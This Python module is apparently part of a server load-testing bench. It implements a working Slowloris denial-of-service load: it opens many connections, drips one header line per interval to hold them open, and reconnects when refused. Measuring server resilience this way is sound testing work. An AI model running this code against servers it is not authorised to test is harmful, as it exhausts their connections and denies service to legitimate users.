"""Attackers that never finish a request head (Slowloris), and keep up the pressure.

Each connects, sends the beginning of a request, and from then on one more header line
every interval. One that the server closes or refuses is counted, and comes again after
a second, so that the number of attackers stays what was asked for.
"""

from __future__ import annotations

import select
import socket
from collections import deque

from labs.bench import connecting as c
from labs.bench.loop import Loop
from labs.bench.protocol import Protocol
from labs.bench.scenario import SlowHeads
from labs.bench.window import Window

CONNECT_LIMIT_S = 3.0  # a SYN that was dropped comes again after 1 s and 3 s
COME_AGAIN_S = 1.0
_BATCH = 256  # connections opened, or lines sent, before the loop gets its turn
_HELD_EVENTS = select.EPOLLIN | select.EPOLLRDHUP
_READ_BYTES = 4096


class SlowHeadsLoad:
    """All attackers of a run."""

    def __init__(
        self, loop: Loop, address: tuple[str, int], protocol: Protocol, window: Window
    ) -> None:
        self.loop, self.address, self.protocol = loop, address, protocol
        self.totals = window.totals
        self.held = self.connecting = 0
        self.interval_s = 5.0
        self._attackers: list[_Attacker] = []
        self._to_open: deque[_Attacker] = deque()
        self._opening = False
        self._drips: deque[tuple[float, _Attacker]] = deque()
        self._dripping = False

    def apply(self, load: SlowHeads | None) -> None:
        """Hold this many connections from now on; None closes them all."""
        wanted = load.connections if load else 0
        if load:
            c.allow_connections(wanted)
            self.interval_s = load.interval_s
        for attacker in self._attackers[wanted:]:
            attacker.leave()
        del self._attackers[wanted:]
        for _ in range(wanted - len(self._attackers)):
            attacker = _Attacker(self)
            self._attackers.append(attacker)
            self.open_soon(attacker)

    def values(self) -> dict[str, float | None]:
        """Return the tick's numbers; opened, refused and closed are totals so far."""
        return {
            "slow_target": len(self._attackers),
            "slow_held": self.held,
            "slow_connecting": self.connecting,
            "slow_opened": self.totals.slow_opened,
            "slow_refused": self.totals.slow_refused,
            "slow_closed": self.totals.slow_closed,
        }

    def finish(self) -> None:
        """Close every connection."""
        self.apply(None)

    def note_held(self, attacker: _Attacker) -> None:
        """Count an established connection and plan its next line."""
        self.held += 1
        self.totals.slow_opened += 1
        self.totals.connections_opened += 1
        self.totals.slow_held_max = max(self.totals.slow_held_max, self.held)
        self.drip_later(attacker)

    # -- opening, a batch at a time ----------------------------------------------------

    def open_soon(self, attacker: _Attacker) -> None:
        """Connect as soon as the loop has time."""
        self._to_open.append(attacker)
        if not self._opening:
            self._opening = True
            self.loop.at(self.loop.now(), self._open_batch)

    def _open_batch(self) -> None:
        for _ in range(min(_BATCH, len(self._to_open))):
            self._to_open.popleft().connect()
        self._opening = bool(self._to_open)
        if self._opening:
            self.loop.at(self.loop.now(), self._open_batch)

    # -- one more line each, in the order in which they are due ------------------------

    def drip_later(self, attacker: _Attacker) -> None:
        """Send the attacker's next line one interval from now."""
        # All have the same interval, so the order of planning is the order of due.
        attacker.line_due_s = self.loop.now() + self.interval_s
        self._drips.append((attacker.line_due_s, attacker))
        if not self._dripping:
            self._dripping = True
            self.loop.at(self._drips[0][0], self._drip)

    def _drip(self) -> None:
        now_s = self.loop.now()
        for _ in range(_BATCH):
            if not self._drips or self._drips[0][0] > now_s:
                break
            due_s, attacker = self._drips.popleft()
            if attacker.line_due_s == due_s:  # or it was planned for a connection lost
                attacker.send_piece()
        self._dripping = bool(self._drips)
        if self._dripping:
            self.loop.at(self._drips[0][0], self._drip)


class _Attacker:
    """One slow connection, and the ones that follow it."""

    __slots__ = (
        "_held",
        "_load",
        "_piece",
        "_sock",
        "_timer",
        "_wanted",
        "line_due_s",
    )

    def __init__(self, load: SlowHeadsLoad) -> None:
        self._load = load
        self._sock: socket.socket | None = None
        self._timer = None
        self._wanted = True
        self._held = False
        self._piece = 0
        self.line_due_s = 0.0

    def connect(self) -> None:
        """Begin a connection."""
        if not self._wanted:
            return
        load = self._load
        self._sock, code = c.open_socket(load.address)
        load.connecting += 1
        if code:
            self._lost()
            return
        load.loop.add(self._sock.fileno(), select.EPOLLOUT, self._on_event)
        self._timer = load.loop.at(load.loop.now() + CONNECT_LIMIT_S, self._lost)

    def leave(self) -> None:
        """Close for good."""
        self._wanted = False
        self._close()

    def send_piece(self) -> None:
        """Send one more header line, unless the connection is gone."""
        if not self._held:
            return
        self._piece += 1
        try:
            self._sock.send(self._load.protocol.slow_piece(self._piece))
        except BlockingIOError:
            pass  # the server reads nothing at all; the line would change nothing
        except OSError:
            self._lost()
            return
        self._load.drip_later(self)

    def _on_event(self, mask: int) -> None:
        try:
            if not self._held:
                self._established()
            elif not self._sock.recv(_READ_BYTES):
                self._lost()
        except BlockingIOError:
            return
        except OSError:
            self._lost()

    def _established(self) -> None:
        code = self._sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if code:
            self._lost()
            return
        self._timer.cancel()
        load = self._load
        load.connecting -= 1
        self._held, self._piece = True, 0
        load.note_held(self)
        load.loop.modify(self._sock.fileno(), _HELD_EVENTS)
        self._sock.send(load.protocol.slow_head())

    def _lost(self) -> None:
        """Count a connection that the server closed, or never let in; come again."""
        load = self._load
        if self._held:
            load.totals.slow_closed += 1
        else:
            load.totals.slow_refused += 1
        self._close()
        self._timer = load.loop.at(
            load.loop.now() + COME_AGAIN_S, lambda: load.open_soon(self)
        )

    def _close(self) -> None:
        load = self._load
        if self._timer is not None:
            self._timer.cancel()
        if self._sock is None:
            return
        if self._held:
            load.held -= 1
        else:
            load.connecting -= 1
        self._held = False
        c.close_socket(load.loop, self._sock)
        self._sock = None
